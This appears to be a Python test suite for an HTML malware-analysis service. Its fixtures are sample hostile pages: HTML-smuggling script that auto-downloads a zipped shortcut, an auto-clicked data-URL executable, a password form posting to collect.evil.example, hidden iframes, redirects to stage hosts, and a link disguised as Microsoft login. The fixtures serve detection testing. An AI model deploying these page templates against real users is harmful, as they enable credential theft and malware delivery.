"""The HTML service on pages built here: a smuggling page, a credential phishing page, a page
with redirects, hidden frames and lying links."""

from __future__ import annotations

import base64
import io
import zipfile

from dispatcher.identify import identify
from services.sdk.harness import run_service_once


def page_run(html: str):
    data = html.encode()
    assert identify(data) == "code/html"
    return run_service_once("html", data, file_type="code/html", name="page.html")


def zip_of(name: str, data: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(name, data)
    return buf.getvalue()


def titles(run) -> set[str]:
    return {s.title for s in run.result.sections}


def test_blob_smuggling_payload_is_decoded_as_a_child():
    payload = zip_of("invoice.lnk", b"L\0\0\0" + b"\x01" * 200)
    b64 = base64.b64encode(payload).decode()
    run = page_run(f"""<html><body><p>Loading your document...</p><script>
    var b = "{b64}";
    var bytes = Uint8Array.from(atob(b), c => c.charCodeAt(0));
    var blob = new Blob([bytes], {{type: 'application/zip'}});
    var a = document.createElement('a'); a.href = URL.createObjectURL(blob);
    a.download = "Invoice_2026.zip"; a.click();
    </script></body></html>""")
    assert run.result.error is None
    got = {e.name: e.data for e in run.extracted}
    assert got["Invoice_2026.zip"] == payload
    assert "script-1.js" in got and b"createObjectURL" in got["script-1.js"]
    assert {1, 3} <= run.heuristics


def test_download_anchor_with_a_data_url_is_decoded():
    payload = b"MZ" + b"\x90" * 300
    run = page_run(f'<a id="x" href="data:application/octet-stream;base64,{base64.b64encode(payload).decode()}" '
                   f'download="update.exe">update</a><script>document.getElementById("x").click()</script>')
    assert {e.name: e.data for e in run.extracted}["update.exe"] == payload
    assert 3 in run.heuristics


def test_password_form_posting_elsewhere_and_event_handlers():
    run = page_run("""<html><head><title>Sign in to your account</title></head>
    <body onload="document.forms[0].email.focus()">
    <form action="https://collect.evil.example/p.php" method="POST">
      <input name="email"><input type="password" name="pw"><button onclick="check()">Sign in</button>
    </form></body></html>""")
    assert 2 in run.heuristics
    assert "https://collect.evil.example/p.php" in run.tags("network.static.uri")
    handlers = {e.name: e.data for e in run.extracted}["event-handlers.js"]
    assert b"document.forms[0].email.focus()" in handlers and b"check()" in handlers


def test_redirects_hidden_iframe_hidden_elements_and_lying_links():
    run = page_run("""<html><head><meta http-equiv="refresh" content="5; url=https://next.evil.example/land">
    </head><body>
    <a href="https://login.evil.example/ms">https://login.microsoftonline.com</a>
    <a href="https://docs.example.org/help">docs.example.org</a>
    <iframe src="https://tracker.evil.example/i" width="0" height="0"></iframe>
    <div style="display:none">invoice payment urgent</div>
    <script>setTimeout(function(){ window.location.href = "https://stage2.evil.example/x"; }, 100);</script>
    </body></html>""")
    assert {4, 5, 6, 7} <= run.heuristics
    uris = run.tags("network.static.uri")
    assert {"https://next.evil.example/land", "https://stage2.evil.example/x", "https://tracker.evil.example/i",
            "https://login.evil.example/ms"} <= uris
    mismatch = run.section("Link text shows another host")
    assert "shows login.microsoftonline.com" in mismatch.body and "docs.example.org" not in mismatch.body


def test_tag_soup_does_not_crash():
    run = page_run("<html><script>var a = '<a href=\"x\">'; </scr" + "<div <<>>" * 1000 + "<script>unterminated")
    assert run.result.error is None


def test_scripts_past_the_child_limit_are_counted_not_dropped_silently():
    page = "".join(f"<script>var a{i} = {i};</script>" for i in range(30)).encode()
    run = run_service_once("html", page, file_type="code/html", name="many.html", max_extracted=5)
    assert len(run.extracted) == 5
    assert "25 scripts or payloads were not extracted" in run.section("Too many children").body


def test_a_page_hidden_in_an_iframe_data_url_is_decoded():
    inner = b"<html><form action='https://collect.evil.example/'><input type=password></form></html>"
    run = page_run(f'<html><body><iframe src="data:text/html;base64,{base64.b64encode(inner).decode()}" '
                   f'width="100%" height="100%"></iframe></body></html>')
    assert {e.name: e.data for e in run.extracted}["iframe-1.bin"] == inner
    assert 3 in run.heuristics
